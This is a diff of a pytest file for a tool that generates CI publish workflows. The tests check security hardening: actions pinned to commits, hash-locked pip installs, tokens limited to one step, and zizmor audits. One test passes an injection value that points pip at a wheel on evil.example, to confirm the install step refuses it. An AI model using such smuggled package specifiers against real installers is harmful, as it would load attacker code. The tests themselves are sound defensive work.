@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import shutil
 import stat
 import subprocess
@@ -14,13 +15,21 @@ from ruamel.yaml import YAML
 
 from postops.errors import PostopsError, UsageError
 from postops.repo.config import load_config
-from postops.scaffold import workflows
-from postops.scaffold.workflows import ACTION_REF, credential_variables, render_workflows, write_workflows
+from postops.scaffold.workflows import (
+    ACTIONS,
+    PUBLISH_CRON,
+    credential_variables,
+    render_workflows,
+    write_workflows,
+)
 
 PROJECT = Path(__file__).resolve().parents[1]
 PR = ".github/workflows/postops-pr.yml"
 PUBLISH = ".github/workflows/postops-publish.yml"
 FORK_CHECK = "github.event.pull_request.head.repo.full_name == github.repository"
+ACTION_REF = "postops/postops@"  # the default source's action, by prefix
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
+PINNED_SOURCE = f"source:\n  repo: acme/postops\n  ref: v2.1.0\n  commit: {COMMIT}\n"
 
 CONFIG = """\
 version: 1
@@ -186,10 +195,33 @@ def test_the_comment_script_updates_its_own_comment_or_creates_one(github, tmp_p
 
 def test_publish_workflow_triggers(github):
     on = triggers(github[PUBLISH])
-    assert on["schedule"] == [{"cron": "*/10 * * * *"}]
+    assert on["schedule"] == [{"cron": PUBLISH_CRON}]
     assert on["push"] == {"branches": ["main"]}
     assert "workflow_dispatch" in on
     assert set(on) == {"schedule", "push", "workflow_dispatch"}
+
+
+def cron_minutes(field: str) -> set[int]:
+    minutes: set[int] = set()
+    for part in field.split(","):
+        span, _, step = part.partition("/")
+        first, last = (0, 59) if span == "*" else (int(span.split("-")[0]), int(span.split("-")[-1]))
+        if "-" not in span and span != "*" and step:
+            last = 59
+        minutes.update(range(first, last + 1, int(step or 1)))
+    return minutes
+
+
+def test_the_schedule_avoids_the_top_of_the_hour_and_runs_every_ten_minutes():
+    # GitHub: "High load times include the start of every hour ... schedule your workflow to run at a
+    # different time of the hour"
+    minute, *rest = PUBLISH_CRON.split()
+    assert rest == ["*", "*", "*", "*"]
+    minutes = sorted(cron_minutes(minute))
+    assert 0 not in minutes
+    gaps = [b - a for a, b in zip(minutes, [*minutes[1:], minutes[0] + 60], strict=True)]
+    assert max(gaps) <= 10 and len(minutes) == 6
+    assert f"`{PUBLISH_CRON}`" in render_workflows("gitlab")[".gitlab-ci.yml"]
 
 
 def test_publish_runs_never_overlap(github):
@@ -205,18 +237,52 @@ def test_publish_has_write_access_only_in_its_job(github):
     assert workflow["jobs"]["publish"]["environment"] == "postops-publish"
 
 
+def publish_step(job: dict[str, Any]) -> dict[str, Any]:
+    [step] = [step for step in job["steps"] if step.get("run") == "postops publish"]
+    return step
+
+
 def test_publish_checks_out_main_with_history_and_runs_publish(github):
     job = github[PUBLISH]["jobs"]["publish"]
     [checkout] = steps_using(job, "actions/checkout@")
-    assert checkout["with"] == {"ref": "main", "fetch-depth": 0, "persist-credentials": True}  # it pushes the ledger
-    [publish] = steps_using(job, ACTION_REF)
-    assert publish["with"] == {"command": "publish", "extras": "tone"}
-    assert publish["env"]["GITHUB_TOKEN"] == "${{ github.token }}"
+    assert checkout["with"] == {"ref": "main", "fetch-depth": 0, "persist-credentials": False}
+    [install] = steps_using(job, ACTION_REF)
+    assert install["with"] == {"extras": "tone"}  # no command: it only installs
+    assert job["steps"].index(install) < job["steps"].index(publish_step(job))
+    assert publish_step(job)["env"]["GITHUB_TOKEN"] == "${{ github.token }}"
+
+
+def test_only_the_publish_step_holds_a_token_or_a_secret(config):
+    # the attack: a compromised dependency's install script, or any other step, reads the token that can
+    # push and the platforms' keys; before, the checkout left the token in .git/config for every later
+    # step, and the secrets were given to the action step that also runs pip
+    job = load(render_workflows("github", config)[PUBLISH])["jobs"]["publish"]
+    publish = publish_step(job)
+    for step in job["steps"]:
+        assert step.get("with", {}).get("persist-credentials", False) is False
+        if step is not publish:
+            assert "${{" not in json.dumps(step.get("env", {})) + json.dumps(step.get("with", {})).replace(
+                "${{ github.token }}", "")
+            assert "token" not in json.dumps(step.get("with", {}))
+    assert "secrets." in json.dumps(publish["env"])
+
+
+def test_the_publish_step_pushes_through_a_credential_helper_that_reads_its_environment(github, tmp_path):
+    env = publish_step(github[PUBLISH]["jobs"]["publish"])["env"]
+    assert env["GIT_CONFIG_COUNT"] == "1"
+    assert env["GIT_CONFIG_KEY_0"] == "credential.${{ github.server_url }}.helper"
+    # git runs the helper with the step's environment; it answers with the token and writes nothing
+    helper = env["GIT_CONFIG_VALUE_0"]
+    assert helper.startswith("!")
+    done = subprocess.run(["sh", "-c", helper[1:] + " get"], capture_output=True, text=True, check=True,
+                          cwd=tmp_path, env={"GITHUB_TOKEN": "ghs_example", "PATH": os.environ["PATH"]})
+    assert done.stdout == "username=x-access-token\npassword=ghs_example\n"
+    assert list(tmp_path.iterdir()) == []
 
 
 def test_publish_gets_exactly_the_accounts_secrets(config):
     workflow = load(render_workflows("github", config)[PUBLISH])
-    [publish] = steps_using(workflow["jobs"]["publish"], ACTION_REF)
+    publish = publish_step(workflow["jobs"]["publish"])
     secrets = {name: value for name, value in publish["env"].items() if "secrets." in value}
     expected = [*X_SECRETS, "POSTOPS_SOCIAL_ACCESS_TOKEN", "POSTOPS_GITHUB_TOKEN"]
     assert sorted(secrets) == sorted(expected)
@@ -226,7 +292,7 @@ def test_publish_gets_exactly_the_accounts_secrets(config):
 
 def test_publish_without_a_config_names_no_platform_secret():
     workflow = load(render_workflows("github")[PUBLISH])
-    [publish] = steps_using(workflow["jobs"]["publish"], ACTION_REF)
+    publish = publish_step(workflow["jobs"]["publish"])
     assert [name for name, value in publish["env"].items() if "secrets." in value] == ["POSTOPS_GITHUB_TOKEN"]
     assert "# POSTOPS_CSIS_API_KEY" in render_workflows("github")[PUBLISH]
 
@@ -237,12 +303,67 @@ def test_the_default_branch_can_be_another_name():
     assert steps_using(workflow["jobs"]["publish"], "actions/checkout@")[0]["with"]["ref"] == "trunk"
 
 
-def test_every_postops_step_uses_the_action_reference(monkeypatch):
-    monkeypatch.setattr(workflows, "ACTION_REF", "acme/postops-fork@v2.1")
-    for text in render_workflows("github").values():
-        uses = [step["uses"] for job in load(text)["jobs"].values() for step in job["steps"] if "uses" in step]
-        assert "acme/postops-fork@v2.1" in uses
-        assert not any(u.startswith("postops/") for u in uses)
+def repository_on(root: Path, branch: str) -> Path:
+    from gitfixtures import git as run_git
+
+    root.mkdir()
+    run_git(root, "init", "--quiet", f"--initial-branch={branch}")
+    (root / "postops.yaml").write_text(CONFIG)
+    run_git(root, "add", "-A")
+    run_git(root, "commit", "--quiet", "-m", "start")
+    return root
+
+
+def test_a_master_repository_gets_workflows_for_master(tmp_path):
+    # the defect: the workflows said `main`; on GitHub the push trigger never fired and the scheduled
+    # checkout of `main` failed
+    root = repository_on(tmp_path / "comms", "master")
+    write_workflows(root, "github", load_config(root), force=False)
+    text = (root / PUBLISH).read_text()
+    workflow = load(text)
+    assert triggers(workflow)["push"] == {"branches": ["master"]}
+    assert steps_using(workflow["jobs"]["publish"], "actions/checkout@")[0]["with"]["ref"] == "master"
+    assert not re.search(r"\bmain\b", code_of(text))
+
+
+def test_a_clone_takes_the_remotes_default_branch(tmp_path):
+    from gitfixtures import git as run_git
+
+    upstream = repository_on(tmp_path / "upstream", "trunk")
+    run_git(tmp_path, "clone", "--quiet", str(upstream), "clone")
+    run_git(tmp_path / "clone", "checkout", "--quiet", "-b", "feature")
+    write_workflows(tmp_path / "clone", "github", load_config(tmp_path / "clone"), force=False)
+    assert triggers(load((tmp_path / "clone" / PUBLISH).read_text()))["push"] == {"branches": ["trunk"]}
+
+
+def every_uses(text: str) -> list[str]:
+    return [step["uses"] for job in load(text)["jobs"].values() for step in job["steps"] if "uses" in step]
+
+
+def test_every_action_is_pinned_to_a_commit_with_its_tag_in_a_comment(repo):
+    repo.write("postops.yaml", CONFIG + PINNED_SOURCE)
+    config = load_config(repo.root)
+    for text in render_workflows("github", config).values():
+        for line in text.splitlines():
+            if line.strip().startswith(("uses:", "- uses:")):
+                assert re.fullmatch(r"\s*-? ?uses: [\w./-]+@[0-9a-f]{40}  # v[\d.]+", line), line
+        for ref in every_uses(text):
+            name, _, commit = ref.partition("@")
+            assert (name == "acme/postops" and commit == COMMIT) or ACTIONS[name][0] == commit
+    action = (PROJECT / "action.yml").read_text()
+    [setup] = re.findall(r"uses: (\S+)", action)
+    assert setup == "actions/setup-python@" + ACTIONS["actions/setup-python"][0]
+
+
+def test_every_postops_step_uses_the_source_in_postops_yaml(repo):
+    repo.write("postops.yaml", CONFIG + PINNED_SOURCE)
+    config = load_config(repo.root)
+    for text in render_workflows("github", config).values():
+        assert f"acme/postops@{COMMIT}" in every_uses(text)
+        assert not any(u.startswith("postops/") for u in every_uses(text))
+    gitlab = load(render_workflows("gitlab", config)[".gitlab-ci.yml"])
+    assert gitlab["variables"]["POSTOPS_SOURCE"] == "https://github.com/acme/postops"
+    assert gitlab["variables"]["POSTOPS_COMMIT"] == COMMIT
 
 
 def test_credential_variables(config):
@@ -385,8 +506,7 @@ def action() -> dict[str, Any]:
 def test_action_is_composite_with_its_inputs(action):
     assert action["runs"]["using"] == "composite"
     inputs = action["inputs"]
-    assert inputs["command"]["required"] is True
-    assert inputs["version"]["default"] == ""
+    assert inputs["command"]["default"] == "" and "version" not in inputs
     assert inputs["python-version"]["default"] == "3.11"
     [setup] = [s for s in action["runs"]["steps"] if s.get("uses", "").startswith("actions/setup-python@")]
     assert setup["with"]["python-version"] == "${{ inputs.python-version }}"
@@ -394,6 +514,8 @@ def test_action_is_composite_with_its_inputs(action):
         if "run" in step:
             assert step["shell"] == "bash"
             assert "${{" not in step["run"]  # inputs come in through env, never pasted into a script
+    # without a command the action only installs postops, for a later step that alone holds the secrets
+    assert _action_step(action, "postops")["if"] == "${{ inputs.command != '' }}"
 
 
 def _action_step(action: dict[str, Any], name: str) -> dict[str, Any]:
@@ -424,28 +546,36 @@ def test_action_can_write_the_output_to_a_file(action, tmp_path):
     assert (tmp_path / "plan.md").read_text() == "plan: plan --format markdown\n"
 
 
-@pytest.mark.parametrize("version, extras, expected", [
-    ("", "", "/actions/postops"), ("0.3.1", "", "postops==0.3.1"),
-    ("", "tone", "/actions/postops[tone]"), ("0.3.1", "tone", "postops[tone]==0.3.1")])
-def test_action_installs_its_own_checkout_or_a_version(action, tmp_path, version, extras, expected):
+@pytest.mark.parametrize("extras, lock", [("", "postops.txt"), ("tone", "postops-tone.txt")])
+def test_action_installs_its_own_checkout_and_only_hashed_dependencies(action, tmp_path, extras, lock):
     step = _action_step(action, "Install postops")
-    assert step["env"] == {"POSTOPS_VERSION": "${{ inputs.version }}",
-                           "POSTOPS_ACTION_PATH": "${{ github.action_path }}",
-                           "POSTOPS_EXTRAS": "${{ inputs.extras }}"}
+    assert step["env"] == {"POSTOPS_ACTION_PATH": "${{ github.action_path }}", "POSTOPS_EXTRAS": "${{ inputs.extras }}"}
     fake_command(tmp_path / "bin", "python", 'echo "$*"')
-    result = run_bash(step["run"], tmp_path, {"POSTOPS_VERSION": version, "POSTOPS_ACTION_PATH": "/actions/postops",
-                                              "POSTOPS_EXTRAS": extras,
+    result = run_bash(step["run"], tmp_path, {"POSTOPS_ACTION_PATH": str(PROJECT), "POSTOPS_EXTRAS": extras,
                                               "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}"})
-    assert result.returncode == 0
-    assert result.stdout.split()[:3] == ["-m", "pip", "install"]
-    assert result.stdout.split()[-1] == expected
+    assert result.returncode == 0, result.stderr
+    dependencies, itself = result.stdout.splitlines()
+    assert dependencies.split()[:3] == ["-m", "pip", "install"]
+    assert "--require-hashes" in dependencies and "--no-deps" in dependencies
+    assert dependencies.split()[-2:] == ["-r", f"{PROJECT}/requirements/{lock}"]
+    # postops itself is the action's checkout, built with what the lock installed, nothing from an index
+    assert {"--no-deps", "--no-build-isolation", "--no-index"} <= set(itself.split())
+    assert itself.split()[-1] == str(PROJECT)
 
+
+def test_action_refuses_extras_without_a_lock_file(action, tmp_path):
+    fake_command(tmp_path / "bin", "python", 'echo "$*"')
+    result = run_bash(_action_step(action, "Install postops")["run"], tmp_path,
+                      {"POSTOPS_ACTION_PATH": str(PROJECT), "POSTOPS_EXTRAS": "everything",
+                       "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}"})
+    assert result.returncode == 2 and result.stdout == ""
+    assert "no lock file for extras 'everything'" in result.stderr
 
 
 def test_action_refuses_extras_that_are_not_names(action, tmp_path):
     step = _action_step(action, "Install postops")
     fake_command(tmp_path / "bin", "python", 'echo "$*"')
-    result = run_bash(step["run"], tmp_path, {"POSTOPS_VERSION": "", "POSTOPS_ACTION_PATH": "/a",
+    result = run_bash(step["run"], tmp_path, {"POSTOPS_ACTION_PATH": "/a",
                                               "POSTOPS_EXTRAS": "tone] @ https://evil.example/x.whl #",
                                               "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}"})
     assert result.returncode == 2 and result.stdout == ""
@@ -473,7 +603,7 @@ def test_lint_reports_an_account_whose_secrets_the_publish_workflow_does_not_pas
     assert [(f.path, f.severity) for f in found] == [(".github/workflows/postops-publish.yml", "error")] * 4
     assert any("POSTOPS_NEWS_API_KEY (account news)" in f.message for f in found)
     publish = (repo.root / ".github/workflows/postops-publish.yml").read_text().splitlines()
-    assert publish[found[0].line - 1].strip() == "command: publish"
+    assert publish[found[0].line - 1].strip() == "run: postops publish"
     # and lint, which now reads the workflow, still imports no platform adapter
     code = ("import sys; from pathlib import Path; from postops.repo.config import load_config; "
             "from postops.lint.engine import run_lint; r = Path(sys.argv[1]); run_lint(r, load_config(r)); "
@@ -482,17 +612,118 @@ def test_lint_reports_an_account_whose_secrets_the_publish_workflow_does_not_pas
     assert out.stdout.strip() == "[]"
 
 
-def test_zizmor_finds_nothing_in_the_generated_workflows_but_tags_instead_of_hashes(repo, config):
-    # zizmor is a static analyser for GitHub workflows (template injection, excessive permissions, leaked
-    # credentials, ...). The actions are named by tag, which it flags; pinning hashes is left to each
-    # organisation (docs/review.md).
-    write_workflows(repo.root, "github", config, force=False)
-    zizmor = shutil.which("zizmor") or str(Path(sys.executable).parent / "zizmor")
-    done = subprocess.run([zizmor, "--offline", "--format", "json", str(repo.root / ".github" / "workflows")],
-                          check=False, capture_output=True, text=True)
-    findings = json.loads(done.stdout)
-    assert findings, done.stderr                       # it did read the workflows
-    assert {f["ident"] for f in findings} == {"unpinned-uses"}
+def zizmor(*args: str) -> subprocess.CompletedProcess[str]:
+    # zizmor is a static analyser for GitHub workflows and actions (template injection, excessive
+    # permissions, leaked credentials, unpinned actions, ...). Its "auditor" persona is its strictest:
+    # every audit, false positives allowed.
+    found = shutil.which("zizmor") or str(Path(sys.executable).parent / "zizmor")
+    return subprocess.run([found, "--offline", "--persona=auditor", "--format", "json", *args],
+                          capture_output=True, text=True, check=False)
+
+
+def test_zizmor_auditor_finds_nothing_in_the_generated_workflows(repo):
+    repo.write("postops.yaml", CONFIG + PINNED_SOURCE)
+    write_workflows(repo.root, "github", load_config(repo.root), force=False)
+    done = zizmor(str(repo.root / ".github" / "workflows"))
+    assert done.returncode == 0 and json.loads(done.stdout) == [], done.stdout + done.stderr
+    # and it does read them: a tag instead of a commit is a finding
+    publish = repo.root / PUBLISH
+    publish.write_text(publish.read_text().replace(f"acme/postops@{COMMIT}", "acme/postops@v2"))
+    assert {f["ident"] for f in json.loads(zizmor(str(publish)).stdout)} == {"unpinned-uses"}
+
+
+def test_zizmor_auditor_finds_nothing_in_the_action_and_the_release_workflow():
+    done = zizmor(str(PROJECT / "action.yml"), str(PROJECT / ".github" / "workflows" / "release.yml"))
+    assert done.returncode == 0 and json.loads(done.stdout) == [], done.stdout + done.stderr
+
+
+# ----------------------------------------------------------------------------------------- release workflow
+
+
+@pytest.fixture
+def release() -> dict[str, Any]:
+    return load((PROJECT / ".github" / "workflows" / "release.yml").read_text())
+
+
+def test_release_tests_builds_tags_and_publishes_in_that_order(release):
+    jobs = release["jobs"]
+    assert list(jobs) == ["test", "build", "tag", "publish"]
+    assert [jobs[j].get("needs") for j in jobs] == [None, "test", "build", "tag"]
+    assert triggers(release) == {"workflow_dispatch": {"inputs": {"version": {
+        "description": "The version to release, exactly as in pyproject.toml (e.g. 0.1.0)",
+        "required": True, "type": "string"}}}}
+    assert release["permissions"] == {}
+
+
+def test_release_publishes_by_trusted_publishing_with_provenance(release):
+    jobs = release["jobs"]
+    publish = jobs["publish"]
+    assert publish["permissions"] == {"id-token": "write"}
+    assert publish["environment"]["name"] == "pypi"
+    [upload] = steps_using(publish, "pypa/gh-action-pypi-publish@")
+    assert "password" not in upload.get("with", {}) and "secrets." not in json.dumps(publish)
+    [attest] = steps_using(jobs["build"], "actions/attest-build-provenance@")
+    assert attest["with"] == {"subject-path": "dist/*"}
+    assert jobs["build"]["permissions"] == {"contents": "read", "id-token": "write", "attestations": "write"}
+    # only the tag job may write to the repository, and it runs no code from the repository
+    assert [j for j in jobs if jobs[j]["permissions"].get("contents") == "write"] == ["tag"]
+    assert not any("run" in step or step.get("uses", "").startswith("actions/checkout@")
+                   for step in jobs["tag"]["steps"])
+
+
+def test_release_installs_everything_with_hashes_and_pins_every_action(release):
+    text = (PROJECT / ".github" / "workflows" / "release.yml").read_text()
+    for line in text.splitlines():
+        if line.strip().startswith(("uses:", "- uses:")):
+            assert re.fullmatch(r"\s*-? ?uses: [\w./-]+@[0-9a-f]{40}  # v[\d.]+", line), line
+        if "pip install" in line and "--no-index" not in line:
+            assert "--require-hashes" in line and "-r requirements/" in line, line
+
+
+def test_release_writes_its_commit_into_the_package(release, tmp_path):
+    [step] = [s for s in release["jobs"]["build"]["steps"] if s.get("name") == "Record the release's commit in the package"]
+    (tmp_path / "src" / "postops").mkdir(parents=True)
+    result = run_bash(step["run"], tmp_path, {"GITHUB_SHA": COMMIT})
+    assert result.returncode == 0, result.stderr
+    import runpy
+
+    assert runpy.run_path(str(tmp_path / "src" / "postops" / "_release.py"))["COMMIT"] == COMMIT
+
+
+def test_a_release_pins_what_it_writes_to_its_own_commit(monkeypatch):
+    from postops import _release
+
+    monkeypatch.setattr(_release, "COMMIT", COMMIT)
+    for text in render_workflows("github").values():
+        assert f"postops/postops@{COMMIT}" in every_uses(text)
+    assert f'POSTOPS_COMMIT: "{COMMIT}"  # v' in render_workflows("gitlab")[".gitlab-ci.yml"]
+
+
+# -------------------------------------------------------------------------------------------- lock files
+
+
+def requirement_names(path: Path) -> set[str]:
+    names = set()
+    for line in path.read_text().splitlines():
+        if line and not line.startswith((" ", "#")):
+            assert line.endswith("\\"), f"{path.name}: {line} has no hash"
+            names.add(re.split(r"[=;\s]", line, maxsplit=1)[0].lower().replace("_", "-").replace(".", "-"))
+    return names
+
+
+@pytest.mark.parametrize("lock, extras", [("postops.txt", ()), ("postops-tone.txt", ("tone",)),
+                                          ("test.txt", ("test", "tone"))])
+def test_each_lock_file_pins_every_dependency_of_pyproject_with_hashes(lock, extras):
+    import tomllib
+
+    project = tomllib.loads((PROJECT / "pyproject.toml").read_text())["project"]
+    wanted = [*project["dependencies"], *(r for e in extras for r in project["optional-dependencies"][e])]
+    names = requirement_names(PROJECT / "requirements" / lock)
+    for requirement in wanted:
+        name = re.split(r"[<>=!~\[;\s]", requirement, maxsplit=1)[0].lower().replace("_", "-").replace(".", "-")
+        assert name in names, f"{lock} lacks {requirement}: run `make locks`"
+    # --no-build-isolation builds postops with the setuptools the lock installed
+    assert "setuptools" in names
 
 
 def test_the_publish_workflow_passes_facebook_and_linkedin_secrets(repo, config):
